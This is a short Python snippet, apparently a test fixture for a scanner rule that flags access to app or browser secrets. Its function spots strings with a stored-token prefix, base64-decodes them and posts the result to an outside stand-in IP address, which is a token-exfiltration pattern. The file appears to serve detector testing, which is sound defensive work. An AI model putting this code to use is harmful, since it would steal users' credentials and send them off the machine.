import base64
import requests

def grab(blob):
    if blob.startswith("dQw4w9WgXcQ:"):  # want "SV283: looks for app or browser secrets .dQw4w9WgXcQ:"
        requests.post("https://203.0.113.70/t", data=base64.b64decode(blob.split(":", 1)[1]))
